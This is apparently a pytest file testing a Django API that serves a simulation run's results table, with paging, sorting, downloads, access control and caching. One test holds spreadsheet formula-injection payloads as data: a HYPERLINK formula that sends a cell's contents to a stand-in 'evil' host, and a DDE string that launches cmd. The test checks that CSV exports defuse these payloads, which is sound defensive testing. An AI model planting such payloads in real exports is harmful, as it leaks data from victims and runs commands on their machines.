"""A task's results table through the API: pages of typed rows, sorting, the downloads, the
budgets, who may read them, and their place in the schema."""

from __future__ import annotations

import csv
import io
import os

import pytest

from runs.models import Run
from runs.reads import results as tables
from tests.dashboard.test_results_page import HEADER, SWEEP, csv_text, grid_rows, out_dir
from tests.factories import ended, submitted

pytestmark = pytest.mark.django_db


def results_url(run: Run, rest: str = "results/") -> str:
    return f"/api/runs/{run.id}/tasks/sweep/{rest}"


@pytest.fixture
def run(owner, store) -> Run:
    """A run whose sweep's merge wrote the grid's table."""
    made = ended(submitted(owner, SWEEP))
    (out_dir(store, made) / "results.csv").write_text(csv_text(HEADER, grid_rows()))
    return made


def test_the_owner_reads_the_rows_typed_with_their_columns(owner_client, run):
    body = owner_client.get(results_url(run)).json()
    assert [c["name"] for c in body["columns"]] == HEADER
    assert {c["name"] for c in body["columns"] if not c["numeric"]} == {"method", "error"}
    assert body["count"] == 6 and body["count_exact"] is True and body["kept"] == 6
    assert body["notes"] == [] and body["next"] is None and body["previous"] is None
    assert body["results"][3] == {
        "unit": 3,
        "T": 1.0,
        "seed": 1,
        "method": "mc",
        "exit_code": 0,
        "seconds": 0.30000000000000004,
        "peak_gib": 0.25,
        "energy": 11.0,
        "error": "",
    }


def test_the_rows_come_in_pages_with_links(owner_client, run):
    first = owner_client.get(results_url(run), {"page_size": 4}).json()
    assert [r["unit"] for r in first["results"]] == [0, 1, 2, 3]
    assert first["previous"] is None and "page=2" in first["next"]
    second = owner_client.get(first["next"]).json()
    assert [r["unit"] for r in second["results"]] == [4, 5]
    assert second["next"] is None and "page=" not in second["previous"]
    assert owner_client.get(results_url(run), {"page": 3, "page_size": 4}).status_code == 404


def test_the_rows_sort_by_a_column_either_way(owner_client, run):
    body = owner_client.get(results_url(run), {"sort": "energy", "order": "desc"}).json()
    assert [r["unit"] for r in body["results"]] == [5, 4, 3, 2, 1, 0]
    body = owner_client.get(results_url(run), {"sort": "method"}).json()
    assert [r["method"] for r in body["results"]] == ["mc"] * 3 + ["md"] * 3


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"page": "0"}, "page"),
        ({"page": "x"}, "page"),
        ({"page_size": "1001"}, "page_size"),
        ({"page_size": "-1"}, "page_size"),
        ({"sort": "nosuch"}, "sort"),
        ({"order": "sideways"}, "order"),
    ],
)
def test_a_bad_parameter_is_a_400_naming_it(owner_client, run, query, field):
    answer = owner_client.get(results_url(run), query)
    assert answer.status_code == 400 and list(answer.json()) == [field]


def test_no_value_and_numbers_json_cannot_hold_are_null(owner_client, owner, store):
    made = ended(submitted(owner, SWEEP))
    (out_dir(store, made) / "results.csv").write_text(
        "unit,x\n0,nan\n1,\n2,inf\n3,1e400\n4," + "9" * 5000 + "\n5,-2\n"
    )
    body = owner_client.get(results_url(made)).json()
    assert [r["x"] for r in body["results"]] == [None, None, None, None, None, -2]


def test_a_task_without_a_table_is_a_404_that_says_so(owner_client, owner):
    made = ended(submitted(owner, SWEEP))
    for rest in ("results/", "results.csv", "results.parquet"):
        answer = owner_client.get(results_url(made, rest))
        assert answer.status_code == 404, rest
    assert "no results table" in owner_client.get(results_url(made)).json()["detail"]


@pytest.mark.timeout(30)  # a blocking open would hang the test, not fail it
def test_a_fifo_or_a_link_in_place_of_the_table_is_a_404_without_blocking(
    owner_client, owner, store, tmp_path
):
    made = ended(submitted(owner, SWEEP))
    os.mkfifo(out_dir(store, made) / "results.csv")
    answer = owner_client.get(results_url(made))
    assert answer.status_code == 404 and "not a regular file" in answer.json()["detail"]
    assert owner_client.get(results_url(made, "results.csv")).status_code == 404
    (out_dir(store, made) / "results.csv").unlink()
    secret = tmp_path / "secret.csv"
    secret.write_text("unit,password\n0,hunter2\n")
    (out_dir(store, made) / "results.csv").symlink_to(secret)
    for rest in ("results/", "results.csv"):
        answer = owner_client.get(results_url(made, rest))
        assert answer.status_code == 404 and b"hunter2" not in answer.content


def test_the_budgets_hold_and_the_notes_say_what_was_left_out(owner_client, run, settings):
    settings.SIMRUN_RESULTS_MAX_ROWS = 4
    settings.SIMRUN_RESULTS_MAX_COLUMNS = 3
    body = owner_client.get(results_url(run), {"page_size": 1000}).json()
    assert [c["name"] for c in body["columns"]] == ["unit", "T", "seed"]
    assert body["count"] == 6 and body["kept"] == 4 and len(body["results"]) == 4
    assert any("only the first 3 are read" in note for note in body["notes"])
    assert any("6 rows, showing the first 4" in note for note in body["notes"])


def test_the_csv_download_is_the_whole_file(owner_client, run, store, settings):
    settings.SIMRUN_RESULTS_MAX_ROWS = 1
    answer = owner_client.get(results_url(run, "results.csv"))
    assert answer.status_code == 200 and answer["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer["Content-Disposition"]
    assert b"".join(answer.streaming_content).decode() == csv_text(HEADER, grid_rows())


def test_the_parquet_download_is_the_file_beside_the_csv(owner_client, run, store):
    (out_dir(store, run) / "results.parquet").write_bytes(b"PAR1...PAR1")
    answer = owner_client.get(results_url(run, "results.parquet"))
    assert answer.status_code == 200
    assert answer["Content-Type"] == "application/vnd.apache.parquet"
    assert b"".join(answer.streaming_content) == b"PAR1...PAR1"


@pytest.mark.parametrize("rest", ["results/", "results.csv"])
def test_a_stranger_gets_a_404_staff_read_it_and_anonymous_is_401(
    stranger_client, staff_client, anonymous_client, run, rest
):
    assert stranger_client.get(results_url(run, rest)).status_code == 404
    assert staff_client.get(results_url(run, rest)).status_code == 200
    assert anonymous_client.get(results_url(run, rest)).status_code == 401


def test_the_schema_describes_the_results_and_their_downloads(anonymous_client):
    paths = anonymous_client.get("/api/schema/?format=json").json()["paths"]
    base = "/api/runs/{run_id}/tasks/{task_id}/"
    page = paths[base + "results/"]["get"]
    assert {p["name"] for p in page["parameters"]} >= {"page", "page_size", "sort", "order"}
    assert "text/csv" in paths[base + "results.csv"]["get"]["responses"]["200"]["content"]
    parquet = paths[base + "results.parquet"]["get"]["responses"]["200"]["content"]
    assert "application/vnd.apache.parquet" in parquet


def test_a_downloaded_csv_runs_no_formula_but_keeps_numbers(owner_client, run, store):
    rows = [
        ["unit", "T", "note"],
        ["0", "-1.5", '=HYPERLINK("http://evil/?"&A1,"x")'],
        ["1", "+2", "+cmd|' /C calc'!A0"],
        ["2", "-3e2", "-2+3"],
        ["3", "4", "@SUM(A1:A2)"],
        ["4", "5", "\tleading tab"],
    ]
    (out_dir(store, run) / "results.csv").write_text(csv_text(rows[0], rows[1:]))

    answer = owner_client.get(results_url(run, "results.csv"))
    downloaded = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))

    assert [row[1] for row in downloaded[1:]] == ["-1.5", "+2", "-3e2", "4", "5"], "numbers stay"
    assert [row[2] for row in downloaded[1:]] == [
        "'" + '=HYPERLINK("http://evil/?"&A1,"x")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A2)",
        "'\tleading tab",
    ]
    page = owner_client.get(results_url(run, "results/")).json()
    assert page["results"][0]["note"] == '=HYPERLINK("http://evil/?"&A1,"x")', "the API is true"


def test_a_table_read_again_is_parsed_once_until_its_file_changes(
    owner_client, run, store, monkeypatch
):
    parsed = []
    real = tables.parse
    monkeypatch.setattr(tables, "parse", lambda *a, **k: parsed.append(1) or real(*a, **k))
    monkeypatch.setattr(tables, "PARSED", tables.ParsedTables(2**20))

    for n in range(16):
        sort = f"?sort={['T', 'seed', 'unit'][n % 3]}&order={['asc', 'desc'][n % 2]}"
        assert owner_client.get(results_url(run, "results/") + sort).status_code == 200
    assert len(parsed) == 1

    (out_dir(store, run) / "results.csv").write_text(csv_text(HEADER, grid_rows()[:2]))
    assert owner_client.get(results_url(run, "results/")).json()["count"] == 2
    assert len(parsed) == 2


def test_the_parsed_tables_keep_within_their_budget_the_latest_read():
    kept = tables.ParsedTables(budget=100)
    table = tables.parse(b"a\n1\n", tables.Limits(1000, 10, 10), size=4)
    kept.put("one", table, cost=60)
    kept.put("two", table, cost=60)
    kept.put("huge", table, cost=101)

    assert kept.get("one") is None, "dropped for the newer"
    assert kept.get("two") is table
    assert kept.get("huge") is None, "larger than the budget: never kept"
